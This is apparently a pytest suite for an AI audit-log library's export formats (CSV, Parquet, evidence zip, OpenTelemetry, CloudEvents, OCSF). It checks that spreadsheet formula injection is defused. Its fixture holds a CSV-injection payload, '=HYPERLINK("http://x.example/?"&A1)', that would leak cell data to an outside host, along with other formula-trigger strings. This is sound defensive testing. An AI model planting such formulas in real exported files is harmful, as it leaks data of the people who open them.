from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
import zipfile
from collections.abc import Callable
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sarguard.audit import AuditLog, Query, export
from sarguard.audit.exports import FORMATS
from sarguard.audit.exports import parquet as parquet_export
from sarguard.audit.exports.rows import COLUMNS
from sarguard.audit.exports.spreadsheet import safe_cell, safe_json
from sarguard.audit.operations.reviews import review
from sarguard.audit.records.fields import Score
from sarguard.audit.records.ids import time_us
from sarguard.errors import (
    AuditNotFoundError,
    AuditRecordError,
    MissingDependencyError,
)
from sarguard.types import Outcome
from tests.audit.filled import POLICY, ask, ledger

FORMULA = '=HYPERLINK("http://x.example/?"&A1)'
OUTCOMES = ("answered", "refused", "blocked", "error_closed", "timeout", "cancelled")


@pytest.fixture
def log(tmp_path: Path) -> AuditLog:
    log, privacy = ledger(tmp_path)
    log.event("policy_loaded", policy=POLICY, body='{"id":"clinic"}')
    for seed, outcome in enumerate(OUTCOMES):
        ask(log, privacy, seed=seed, outcome=outcome, tenant=FORMULA)
    log.event("integrity_failed", what="hooks_missing")
    return log


def _lines(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def test_jsonl_is_the_bytes_that_were_hashed(log: AuditLog, tmp_path: Path) -> None:
    out = tmp_path / "all.jsonl"
    written = export(log, out, "jsonl", actor="ann")
    stored = [entry.data for entry in log.entries()][: written.records]
    assert out.read_bytes() == b"".join(data + b"\n" for data in stored)
    assert written.digest == f"sha256:{sha256(out.read_bytes()).hexdigest()}"
    record: Any = log.reader.get(written.seq or 0).record
    assert (record.kind, record.records, record.digest, record.actor) == (
        "exported",
        written.records,
        written.digest,
        "ann",
    )
    assert (record.first_seq, record.last_seq) == (1, written.records)


def test_csv_cannot_run_in_a_spreadsheet(log: AuditLog, tmp_path: Path) -> None:
    out = tmp_path / "all.csv"
    export(log, out, "csv", Query(kind="request_finished"))
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert list(rows[0]) == list(COLUMNS)
    assert [row["outcome"] for row in rows] == list(OUTCOMES)
    assert {row["tenant"] for row in rows} == {f"'{FORMULA}"}
    assert {row["alpha"] for row in rows} == {"0.1"}
    assert {row["attested"] for row in rows} == {"true"}


def test_csv_carries_scores_and_what_a_judgement_is_about(tmp_path: Path) -> None:
    log, privacy = ledger(tmp_path)
    with log:
        name = ask(log, privacy, scores=[Score(name="gate", value=0.75, threshold=0.5)])
        review(log, name, "missed", reviewer="ann")
        export(log, tmp_path / "all.csv", "csv")
    text = (tmp_path / "all.csv").read_text(encoding="utf-8")
    rows = {row["kind"]: row for row in csv.DictReader(io.StringIO(text))}
    ended, judged = rows["request_finished"], rows["reviewed"]
    assert (ended["gate_score"], ended["gate_threshold"]) == ("0.75", "0.5")
    assert judged["audit_id"] == ended["audit_id"] == name
    assert (judged["gate_score"], judged["label"]) == ("", "missed")


@pytest.mark.parametrize(
    "cell",
    [
        "=1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        " =1",
        "\u200b=1",
        "\ufeff@x",
        "\uff1d1",
    ],
)
def test_formulas_are_defused(cell: str) -> None:
    assert safe_cell(cell).startswith("'")
    assert safe_cell(cell).replace("'", "") == cell


def test_numbers_and_words_stay() -> None:
    assert [safe_cell(v) for v in (-1, -0.5, True, None, "a=b", "")] == [
        "-1",
        "-0.5",
        "true",
        "",
        "a=b",
        "",
    ]


@given(st.text())
def test_no_text_begins_a_formula(text: str) -> None:
    cell = safe_cell(text)
    assert not cell.lstrip("\ufeff\u200b \t\r\n").startswith(
        tuple("=+-@\uff1d\uff0b\uff0d\uff20")
    )
    assert cell.replace("'", "") == text.replace("'", "")


@given(
    texts=st.lists(
        st.text(alphabet=st.sampled_from("ab;|\t,\n\r\"' =+-@1")), min_size=2
    )
)
@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_no_cell_is_a_formula_whatever_the_separator_is(
    texts: list[str], separator: str
) -> None:
    line = io.StringIO(newline="")
    writer = csv.writer(line, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    writer.writerow(map(safe_cell, texts))
    file = io.StringIO(line.getvalue(), newline="")
    for row in csv.reader(file, delimiter=separator):
        for cell in row:
            bare = cell.lstrip("\ufeff\u200b \t\r\n")
            number = bare[:1] in "+-" and bare[1:2].isdigit()
            assert number or not bare.startswith(tuple("=+-@"))


@given(st.recursive(st.text() | st.integers(), lambda c: st.lists(c)))
def test_json_says_the_same(value: object) -> None:
    text = json.dumps(value, ensure_ascii=False)
    assert json.loads(safe_json(text)) == value


def test_a_formula_behind_a_semicolon_is_defused_everywhere(tmp_path: Path) -> None:
    with AuditLog.open(tmp_path / "a.db") as log:
        begun = log.started(entry="generate", tenant="x;=HYPERLINK(1)")
        log.finished(str(begun.audit_id), outcome=Outcome.ANSWERED)
        export(log, tmp_path / "a.csv", "csv")
    text = (tmp_path / "a.csv").read_text(encoding="utf-8")
    assert ";=" not in text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {json.loads(row["record"]).get("tenant") for row in rows} >= {
        "x;=HYPERLINK(1)"
    }


def test_parquet_is_typed(log: AuditLog, tmp_path: Path) -> None:
    parquet = pytest.importorskip("pyarrow.parquet")
    out = tmp_path / "all.parquet"
    written = export(log, out, "parquet")
    table = parquet.read_table(out)
    assert table.column_names == list(COLUMNS)
    assert table.num_rows == written.records
    assert str(table.schema.field("seq").type) == "int64"
    assert str(table.schema.field("attested").type) == "bool"
    stored = [entry.data.decode() for entry in log.entries(1, written.records)]
    assert table.column("record").to_pylist() == stored


def test_parquet_says_what_it_needs(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(MissingDependencyError, match=r"sarguard\[parquet\]"):
        parquet_export.write_parquet([], Path("unused"))


def test_evidence_is_checked_by_a_stranger(log: AuditLog, tmp_path: Path) -> None:
    out = tmp_path / "evidence.zip"
    written = export(log, out, "evidence", Query(kind="request_finished"))
    place = tmp_path / "unpacked"
    with zipfile.ZipFile(out) as archive:
        archive.extractall(place)
    for line in (place / "SHA256SUMS").read_text().splitlines():
        digest, name = line.split("  ")
        assert sha256((place / name).read_bytes()).hexdigest() == digest
    records = sorted((place / "records").iterdir(), key=lambda path: int(path.stem))
    assert len(records) == written.records == len(OUTCOMES)
    name = records[0].stem
    command = re.search(r"python (verify\.py proof .*?KEY\.txt)", _readme(place))
    assert command is not None
    told = _run(place, command[1].split())
    assert (told.returncode, told.stdout[:5]) == (0, "VALID")
    records[0].write_bytes(records[0].read_bytes().replace(b"answered", b"refused "))
    assert _run(place, command[1].split()).returncode == 1
    assert name in command[1]
    (policy,) = (place / "policies").iterdir()
    assert policy.read_text() == '{"id":"clinic"}'


def _readme(place: Path) -> str:
    return (place / "README.txt").read_text(encoding="utf-8").replace("\\\n", " ")


def _run(place: Path, arguments: list[str]) -> subprocess.CompletedProcess[str]:
    program = [sys.executable, "-I", "-S", *arguments]
    return subprocess.run(program, cwd=place, capture_output=True, text=True)


def test_evidence_is_the_same_bytes_again(log: AuditLog, tmp_path: Path) -> None:
    log.checkpoint()
    query = Query(kind="request_started")
    first = export(log, tmp_path / "a", "evidence", query, record=False)
    again = export(log, tmp_path / "b", "evidence", query, record=False)
    assert first.digest == again.digest


def test_evidence_of_nothing_is_refused(log: AuditLog, tmp_path: Path) -> None:
    with pytest.raises(AuditNotFoundError):
        export(log, tmp_path / "x.zip", "evidence", Query(tenant="nobody"))
    assert not list(tmp_path.glob("*x.zip*"))


def test_cloudevents_have_the_required_shape(log: AuditLog, tmp_path: Path) -> None:
    export(log, tmp_path / "c", "cloudevents")
    events = _lines(tmp_path / "c")
    assert len({event["id"] for event in events}) == len(events)
    for event in events:
        assert event["specversion"] == "1.0"
        assert re.fullmatch(r"dev\.sarguard\.audit\.[a-z_]+\.v1", event["type"])
        assert event["source"].startswith("urn:sarguard:log_")
        time_us(event["time"])
        extensions = set(event) - {
            *("specversion", "id", "source", "type", "time", "subject"),
            *("datacontenttype", "data"),
        }
        assert all(re.fullmatch("[a-z0-9]{1,20}", name) for name in extensions)


def test_spans_follow_the_genai_conventions(log: AuditLog, tmp_path: Path) -> None:
    export(log, tmp_path / "o", "otel")
    spans = [_span(line) for line in _lines(tmp_path / "o")]
    assert len(spans) == len(OUTCOMES)
    for span in spans:
        assert re.fullmatch("[0-9a-f]{32}", span["traceId"])
        assert re.fullmatch("[0-9a-f]{16}", span["spanId"])
        assert int(span["endTimeUnixNano"]) >= int(span["startTimeUnixNano"])
        found = {item["key"]: item["value"] for item in span["attributes"]}
        assert span["name"] == "chat reference"
        assert found["gen_ai.operation.name"] == {"stringValue": "chat"}
        assert found["gen_ai.usage.audio.input_tokens"] == {"intValue": "25"}
        finish = found["gen_ai.response.finish_reasons"]["arrayValue"]["values"][0]
        allowed = {"content_filter", "error", "length", "stop"}
        assert finish["stringValue"] in allowed
        known = re.compile(r"(gen_ai|sarguard)\.[a-z_.]+|error\.type")
        assert all(known.fullmatch(name) for name in found)
    codes = [span["status"]["code"] for span in spans]
    assert codes == [1, 1, 1, 2, 2, 2]


TRACE, SPAN = "4bf92f3577b34da6a3ce929d0e0e4736", "00f067aa0ba902b7"


def test_spans_and_events_carry_the_recorded_trace(tmp_path: Path) -> None:
    log, _ = ledger(tmp_path)
    with log:
        for trace_id, span_id in (
            (TRACE, SPAN),
            (TRACE, None),
            (None, None),
            ("0" * 32, SPAN),
            ("a name of another system", SPAN),
            (TRACE, "another name"),
        ):
            started = log.started(entry="generate", trace_id=trace_id, span_id=span_id)
            log.finished(str(started.audit_id), outcome="answered")
        for name in ("first", "again"):
            export(log, tmp_path / name, "otel", record=False)
        # Without the first records, too.
        ends = Query(kind="request_finished")
        export(log, tmp_path / "ends", "otel", ends, record=False)
        export(log, tmp_path / "events", "cloudevents", ends, record=False)
    spans = [_span(line) for line in _lines(tmp_path / "first")]
    assert spans == [_span(line) for line in _lines(tmp_path / "again")]
    ids = [(span["traceId"], span.get("parentSpanId")) for span in spans]
    assert [own for own, _ in ids].count(TRACE) == 3
    assert [parent for _, parent in ids] == [SPAN, *[None] * 5]
    assert len({span["spanId"] for span in spans} - {SPAN}) == 6
    assert all(re.fullmatch("[0-9a-f]{32}", own) and int(own, 16) for own, _ in ids)
    alone = [_span(line) for line in _lines(tmp_path / "ends")]
    assert [(s["traceId"], s.get("parentSpanId")) for s in alone] == ids
    events = _lines(tmp_path / "events")
    assert [event.get("traceparent") for event in events] == [
        f"00-{TRACE}-{SPAN}-01",
        *[None] * 5,
    ]
    assert events[0]["type"] == "dev.sarguard.audit.request_finished.v2"


def _span(line: dict[str, Any]) -> dict[str, Any]:
    ((scope,),) = (r["scopeSpans"] for r in line["resourceSpans"])
    (span,) = scope["spans"]
    return dict(span)


def test_ocsf_events_have_the_required_shape(log: AuditLog, tmp_path: Path) -> None:
    export(log, tmp_path / "o", "ocsf")
    *activities, finding = _lines(tmp_path / "o")
    assert len(activities) == len(OUTCOMES)
    actions = [(event["action_id"], event["disposition_id"]) for event in activities]
    assert actions == [(1, 1), (4, 11), (2, 2), (2, 27), (2, 27), (3, 17)]
    required: tuple[tuple[str, Callable[[Any], bool]], ...] = (
        ("time", lambda v: isinstance(v, int) and len(str(v)) == 13),
        ("metadata", lambda v: {"version", "product", "uid"} <= set(v)),
        ("severity_id", lambda v: v in range(0, 7)),
        ("category_uid", lambda v: v in (2, 6)),
    )
    for event in (*activities, finding):
        assert event["type_uid"] == event["class_uid"] * 100 + event["activity_id"]
        assert all(fits(event[name]) for name, fits in required)
    for event in activities:
        assert {"api", "actor", "src_endpoint", "ai_model"} <= set(event)
        assert {"ai_provider", "name"} <= set(event["ai_model"])
    assert (finding["class_uid"], finding["finding_info"]["title"]) == (
        2004,
        "Steering fault: hooks_missing",
    )


@pytest.mark.parametrize("format", FORMATS)
def test_a_file_is_never_replaced(log: AuditLog, tmp_path: Path, format: str) -> None:
    out = tmp_path / "there"
    out.write_text("mine")
    with pytest.raises(FileExistsError, match="another file"):
        export(log, out, format)
    assert out.read_text() == "mine"


def test_what_cannot_be_recorded_leaves_no_file(log: AuditLog, tmp_path: Path) -> None:
    log.close()
    from sarguard.errors import AuditWriteError

    with pytest.raises(AuditWriteError):
        export(log, tmp_path / "out.csv", "csv")
    assert not list(tmp_path.glob("*out.csv*"))
    with pytest.raises(AuditRecordError, match="no format"):
        export(log, tmp_path / "out", "xml")


@pytest.mark.parametrize("format", FORMATS)
def test_no_content_is_in_an_export(log: AuditLog, tmp_path: Path, format: str) -> None:
    from tests.audit.test_privacy import needles

    out = tmp_path / "out"
    export(log, out, format)
    data = out.read_bytes()
    if format == "evidence":
        with zipfile.ZipFile(out) as archive:
            data += b"".join(archive.read(name) for name in archive.namelist())
    if format == "parquet":
        parquet = pytest.importorskip("pyarrow.parquet")
        data += repr(parquet.read_table(out).to_pylist()).encode()
    assert all(needle not in data for needle in needles(0))
